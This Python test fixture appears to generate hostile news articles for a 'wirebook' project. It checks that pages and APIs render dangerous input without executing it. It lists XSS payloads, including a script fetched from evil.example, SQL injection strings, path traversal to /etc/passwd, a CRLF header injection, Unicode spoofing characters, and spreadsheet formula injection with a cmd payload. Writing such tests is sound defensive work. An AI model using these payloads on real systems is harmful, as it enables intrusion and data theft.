"""Fifty articles that mean harm, or look as if: what a page or an API must show without doing what they say."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import replace

from tests.builders import make_article, make_count, make_place, make_statement
from wirebook.model import Article, Participant, Source, SourceKind, Span, Statement

SCRIPT = "<script>document.title='taken'</script>"

MARKUP = (
    SCRIPT,
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=https://evil.example></iframe>",
    "</p></main></body><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!-- ", "--> <script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7 * 7 }}{% for x in y %}", "${7*7}#{7*7}", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/a.css>", "<style>*{display:none}</style>",
    "<form action=https://evil.example><input name=csrf></form>", "<object data=x></object>",
    "<a href=\"javascript:alert(1)\">here</a>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;",
)  # fmt: skip
SIGNS = (  # what is not seen, or seen as something else
    "\u202e evil \u202d", "\u2066\u2067\u2068 unclosed", "\u200b\u200c\u200d\ufeff zero", "\u0000 nothing",
    "\x1b[31m red",
    "\x02 marked \x03", "\u2028 line \u2029", "\r\n.\r\nSet-Cookie: a=b", "e" + "\u0301" * 500,
    "\U000e0041\U000e007f tags",
    "🏴‍☠️👩‍👩‍👧‍👦", "\ufdfd" * 50, "Ａｄｍｉｎ", "раураl",
)  # fmt: skip
QUERIES = (
    "'; DROP TABLE articles; --", "\" OR 1=1 --", "%' UNION SELECT text FROM articles --", "* NEAR( AND \"",
    "../../etc/passwd",
    "=HYPERLINK(\"https://evil.example\")", "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1",
)  # fmt: skip


def _statement(article: Article, words: str, number: int = 99) -> Statement:
    """A statement all of whose fields say the words, of a month of its own, so that each is another event."""
    made = make_statement(
        article,
        trigger="struck",
        mode=words[:80],
        date=f"{2015 + number // 12}-{1 + number % 12:02}-12",
        place=make_place(article.text, words, "RUS"),
        counts=[make_count(600, unit=words[:40], of=words[:40])],
        quote="struck",
    )
    who = Participant(Span(0, min(len(words), 20)), words[:20], words, None, "RUS", words[:20], words[:20])
    source = Source(words, SourceKind.PERSON, id=words[:40], span=Span(0, 3))
    return replace(made, actors=(who,), sources=(source,), rule=f"{words}/{words}", contexts=(words[:40],))


def hostile_articles() -> Iterator[tuple[Article, list[Statement]]]:
    """Fifty-one articles with their statements, as a reader that was fooled would make them."""
    for number, words in enumerate((*MARKUP, *SIGNS, *QUERIES)):
        text = f"{words} struck North Korea on Tuesday, {words} said. The rest is {words}."
        article = make_article(text, article_id=f"h{number}{words}", outlet=f"Outlet {words}", title=words)
        article = replace(article, url=f"javascript:alert({number})" if number % 2 else f"https://a.example/{words}")
        yield article, [_statement(article, words, number)]
    megabyte = make_article("struck " + "x" * 1_000_000, article_id="megabyte", outlet="Long", title="y" * 5000)
    yield megabyte, [_statement(megabyte, "z" * 3000, 98)]
    names = [f"Name{number} Surname{number}" for number in range(10_000)]
    crowd = make_article(", ".join(names) + " struck.", article_id="crowd", outlet="Crowd", title="A crowd")
    many = _statement(crowd, "crowd")
    parties = [Participant(Span(0, 5), "Name0", name, None, None, None, "name") for name in names]
    yield crowd, [replace(many, actors=tuple(parties))]
